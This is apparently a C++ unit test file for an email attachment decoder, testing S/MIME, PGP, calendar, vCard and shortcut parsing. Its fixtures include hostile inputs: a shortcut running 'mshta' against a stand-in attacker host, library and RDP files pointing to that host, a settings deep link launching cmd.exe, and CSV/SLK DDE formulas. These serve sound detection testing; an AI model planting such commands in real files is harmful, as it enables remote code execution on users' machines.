// What carries words or opens something else: S/MIME, PGP, calendars, cards, shortcuts.
// SPDX-License-Identifier: GPL-2.0-or-later
#include <gtest/gtest.h>

#include "tests/unit/decode/make.h"

namespace gatepost::decode {
namespace {

std::string Der(char tag, const std::string& content) {
  std::string out(1, tag);
  if (content.size() < 128) {
    out.push_back(static_cast<char>(content.size()));
  } else {
    out += "\x82";
    out.push_back(static_cast<char>(content.size() >> 8));
    out.push_back(static_cast<char>(content.size() & 0xff));
  }
  return out + content;
}

const std::string& PlainData() {
  static const std::string oid("\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01", 11);
  return oid;
}

std::string Smime(char arc) {
  return Der('\x06', std::string("\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01", 10) + arc);
}

// RFC 3274; DEFLATE in one stored block.
std::string Compressed(const std::string& content) {
  const std::string zlib = "\x78\x01" + StoredDeflate(content) + std::string(4, '\0');
  const std::string algorithm =
      Der('\x30', Der('\x06', std::string("\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x03\x08", 11)));
  const std::string inner = Der('\x30', PlainData() + Der('\xa0', Der('\x04', zlib)));
  return Der('\x30', Smime('\x09') + Der('\xa0', Der('\x30', std::string("\x02\x01\x00", 3) +
                                                                 algorithm + inner)));
}

std::string Signed(const std::string& inner_type, const std::string& content) {
  const std::string inner = Der('\x30', inner_type + Der('\xa0', Der('\x04', content)));
  const std::string oid("\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02", 11);
  return Der('\x30',
             oid + Der('\xa0', Der('\x30', std::string("\x02\x01\x01\x31\x00", 5) + inner)));
}

Opened Open(const std::string& name, const std::string& bytes) {
  return OpenBytes(name, bytes, Limits());
}

bool Says(const Leaves& leaves, const char* zone, std::string_view words) {
  return TextOf(leaves, zone).find(words) != std::string::npos;
}

Leaves DecodeText(const ParsedMail& parsed) { return Decode(parsed.message, Limits()); }

TEST(Smime, CompressedDataIsUnpackedAlsoInsideSignedData) {
  const std::string mail = "Content-Type: text/plain\r\n\r\ncompressed words\r\n";
  const Opened plain = Open("smime.p7z", Compressed(mail));
  EXPECT_EQ(plain.leaves[0].type, Type::kPkcs7);
  EXPECT_TRUE(AnyLeafContains(plain, "compressed words"));
  EXPECT_FALSE(Fact(plain, "message.encrypted"));
  EXPECT_FALSE(Fact(plain, "message.signed"));
  const Opened within = Open("smime.p7m", Signed(PlainData(), Compressed(mail)));
  EXPECT_TRUE(AnyLeafContains(within, "compressed words"));
  EXPECT_TRUE(Fact(within, "message.signed"));
}

TEST(Smime, SignedContentIsReadWhateverItsTypeAndDataWithNothingAroundItToo) {
  const std::string mail = "Content-Type: text/plain\r\n\r\nwords within\r\n";
  const std::string other =
      Der('\x06', std::string("\x2b\x06\x01\x04\x01\x82\x37\x02\x01\x04", 10));
  EXPECT_TRUE(AnyLeafContains(Open("smime.p7m", Signed(other, mail)), "words within"));
  const std::string bare = Der('\x30', PlainData() + Der('\xa0', Der('\x04', mail)));
  EXPECT_TRUE(AnyLeafContains(Open("smime.p7m", bare), "words within"));
}

TEST(Smime, ASignedFileHasItsOwnName) {
  const Opened leaves = Open("plan.html.p7m", Signed(PlainData(), "<p>signed page</p>"));
  EXPECT_TRUE(HasLeaf(leaves, "plan.html.p7m/plan.html"));
  EXPECT_EQ(leaves.leaves[1].type, Type::kHtml);
}

TEST(Smime, AuthenticatedEncryptionIsEncryption) {
  const Opened leaves = Open("smime.p7m", Der('\x30', Smime('\x17') + Der('\xa0', "\x30")));
  EXPECT_TRUE(HasUnscannable(leaves, Reason::kEncrypted));
  EXPECT_TRUE(Fact(leaves, "message.encrypted"));
}

TEST(Smime, CompressedDataThatBreaksOffIsDamaged) {
  std::string cut = Compressed(std::string(500, 'w'));
  cut.resize(300);
  EXPECT_TRUE(HasUnscannable(Open("smime.p7z", cut), Reason::kDamaged));
}

TEST(Signed, ClearTextIsReadAndSignaturesAreAFact) {
  const ParsedMail multipart(
      "From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; boundary=b;"
      " protocol=\"application/pgp-signature\"\r\n\r\n--b\r\n\r\nthe words\r\n--b\r\n"
      "Content-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n"
      "--b--\r\n");
  const Leaves leaves = DecodeText(multipart);
  EXPECT_TRUE(Fact(leaves, "message.signed"));
  EXPECT_FALSE(Fact(leaves, "message.encrypted"));
  EXPECT_TRUE(leaves.unscannable.empty());
  const ParsedMail clear(
      "From: a@example.com\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: "
      "SHA256\r\n\r\nwords\r\n"
      "-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n-----END PGP SIGNATURE-----\r\n");
  const Leaves shown = DecodeText(clear);
  EXPECT_TRUE(Fact(shown, "message.signed"));
  EXPECT_FALSE(Fact(shown, "message.encrypted"));
  EXPECT_TRUE(AnyLeafContains(shown, "words"));
}

TEST(Encrypted, PgpInEveryDressIsUnscannable) {
  const ParsedMail mime(
      "From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/encrypted; boundary=b;"
      " protocol=\"application/pgp-encrypted\"\r\n\r\n--b\r\n"
      "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\n"
      "Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n"
      "--b--\r\n");
  const Leaves leaves = DecodeText(mime);
  EXPECT_TRUE(HasUnscannable(leaves, Reason::kEncrypted));
  EXPECT_TRUE(Fact(leaves, "message.encrypted"));
  const std::string packet = "\x85\x01\x0c\x03" + std::string(60, '\x99');
  EXPECT_TRUE(HasUnscannable(Open("plan.docx.gpg", packet), Reason::kEncrypted));
  EXPECT_TRUE(HasUnscannable(Open("a.bin", "Salted__" + packet), Reason::kEncrypted));
  EXPECT_FALSE(HasUnscannable(Open("a.bin", packet), Reason::kEncrypted));
}

TEST(Calendar, WordsAreUnfoldedAndUnescaped) {
  const Opened leaves =
      Open("invite.ics",
           "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Họp kín\\, TỐI\r\n  MẬT\r\n"
           "DESCRIPTION;LANGUAGE=vi:line one\\nline two\\; end http://evil.exa\r\n mple/x\r\n"
           "ATTENDEE;CN=\"Nguyen; Van A\":mailto:a@example.com\r\nLOCATION:Room 5\r\n"
           "URL:https://meet.example/1\r\nDTSTART:20260101T000000Z\r\nEND:VEVENT\r\n"
           "END:VCALENDAR\r\n");
  EXPECT_EQ(leaves.leaves[0].type, Type::kCalendar);
  EXPECT_TRUE(Says(leaves, "attachment", "Họp kín, TỐI MẬT\n"));
  EXPECT_TRUE(Says(leaves, "attachment", "line one\nline two; end http://evil.example/x\n"));
  EXPECT_TRUE(Says(leaves, "attachment", "Nguyen; Van A\n"));
  EXPECT_TRUE(Says(leaves, "attachment", "Room 5\n"));
  EXPECT_TRUE(Says(leaves, "url", "https://meet.example/1\n"));
  EXPECT_FALSE(Says(leaves, "attachment", "20260101"));
}

TEST(Calendar, InlineFilesAndHtmlAreLeaves) {
  const std::string file = Base64(MakeZip({{"run.txt", "inside the calendar"}}));
  const Opened leaves = Open(
      "a.ics", "BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.zip:" +
                   file.substr(0, 20) + "\r\n " + file.substr(20) +
                   "\r\nX-ALT-DESC;FMTTYPE=text/html:<p>rich <b>text</b></p>\r\nEND:VCALENDAR\r\n");
  EXPECT_TRUE(HasLeaf(leaves, "a.ics/a.zip/run.txt"));
  EXPECT_TRUE(AnyLeafContains(leaves, "rich <b>text</b>"));
}

TEST(Card, QuotedPrintableAndPicturesOfOldCardsAreRead) {
  const Opened leaves =
      Open("card.dat",
           "BEGIN:VCARD\r\nVERSION:2.1\r\n"
           "NOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:T=E1=BB=90I M=\r\n=E1=BA=ACT\r\n"
           "ORG;CHARSET=windows-1252:Caf\xe9;Second\r\nitem1.URL:http://card.example/\r\n"
           "PHOTO;PNG;BASE64:\r\n " +
               Base64("\x89PNG\r\n\x1a\n and so on") + "\r\n\r\nEND:VCARD\r\n");
  EXPECT_EQ(leaves.leaves[0].type, Type::kVcard);
  EXPECT_TRUE(Says(leaves, "attachment", "TỐI MẬT\n"));
  EXPECT_TRUE(Says(leaves, "attachment", "Café Second\n"));
  EXPECT_TRUE(Says(leaves, "url", "http://card.example/\n"));
  ASSERT_TRUE(HasLeaf(leaves, "card.dat/photo"));
  EXPECT_EQ(leaves.leaves[1].type, Type::kImage);
}

TEST(Card, AFileAsDataUrlIsALeaf) {
  const Opened leaves = Open("c.vcf", "BEGIN:VCARD\nVERSION:4.0\nKEY:data:text/plain;base64," +
                                          Base64("words in a key") + "\nEND:VCARD\n");
  EXPECT_TRUE(AnyLeafContains(leaves, "words in a key"));
}

TEST(Shortcut, ItsCommandIsTextAndWhatHangsBehindIsALeaf) {
  std::string link("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", 20);
  link += Le(0x80 | 0x20 | 0x08, 4) + std::string(52, '\0');
  const std::string path = "..\\cmd.exe";
  const std::string arguments = "/c mshta http://evil.example/a.hta";
  link += Le(path.size(), 2) + Utf16(path) + Le(arguments.size(), 2) + Utf16(arguments);
  link += Le(0, 4);
  const Opened leaves = Open("plan.pdf.lnk", link + MakeZip({{"p.txt", "behind the shortcut"}}));
  EXPECT_TRUE(Fact(leaves, "shortcut.attached"));
  EXPECT_TRUE(Fact(leaves, "executable.attached"));
  EXPECT_TRUE(Says(leaves, "attachment", "..\\cmd.exe\n"));
  EXPECT_TRUE(Says(leaves, "attachment", arguments));
  EXPECT_TRUE(AnyLeafContains(leaves, "behind the shortcut"));
}

TEST(Shortcut, FilesThatLeadElsewhereTellWhere) {
  const Opened url =
      Open("a.url", "[InternetShortcut]\r\nURL=file://10.0.0.1@80/s/a.exe\r\nIconIndex=1\r\n");
  EXPECT_TRUE(Says(url, "url", "file://10.0.0.1@80/s/a.exe\n"));
  EXPECT_TRUE(Fact(url, "shortcut.attached"));
  const std::string windows_library = "library-ms";
  const Opened library =
      Open("docs." + windows_library,
           "<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"><searchConnectorDescriptionList>"
           "<searchConnectorDescription><simpleLocation><url>\\\\evil.example@SSL\\dav</url>"
           "</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>"
           "</libraryDescription>");
  EXPECT_TRUE(Says(library, "url", "\\\\evil.example@SSL\\dav\n"));
  EXPECT_TRUE(Fact(library, "shortcut.attached"));
  const Opened setting =
      Open("a.settingcontent-ms",
           "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation>"
           "<DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink>"
           "</ApplicationInformation></SearchableContent></PCSettings>");
  EXPECT_TRUE(Says(setting, "attachment", "cmd.exe /c calc"));
  const Opened remote = Open("a.rdp", "screen mode id:i:2\r\nfull address:s:evil.example\r\n");
  EXPECT_TRUE(Says(remote, "url", "evil.example\n"));
  const Opened query = Open("a.iqy", "WEB\r\n1\r\nhttp://evil.example/q\r\n");
  EXPECT_TRUE(Fact(query, "shortcut.attached"));
  EXPECT_TRUE(Fact(query, "document.external"));
  EXPECT_FALSE(Fact(Open("a.txt", "URL=nothing\r\n"), "shortcut.attached"));
}

TEST(Shortcut, CellsThatStartProgramsAreDde) {
  EXPECT_TRUE(Fact(Open("a.csv", "a,b\n=cmd|' /C calc'!A0,2\n"), "document.dde"));
  EXPECT_TRUE(Fact(Open("a.slk", "ID;P\nC;X1;Y1;K0;Ecmd|' /C calc'!A0\nE\n"), "document.dde"));
  EXPECT_FALSE(Fact(Open("a.csv", "a|b!,c\nEnd|of!\n=1+2,x|y\n"), "document.dde"));
}

TEST(Word, TheProjectOfAWebArchiveIsUnpacked) {
  const std::string mso = "ActiveMime" + std::string(40, '\0') + "\x78\x01" +
                          StoredDeflate("what was packed for the archive") + "1234";
  EXPECT_TRUE(AnyLeafContains(Open("editdata.mso", mso), "packed for the archive"));
}

}  // namespace
}  // namespace gatepost::decode
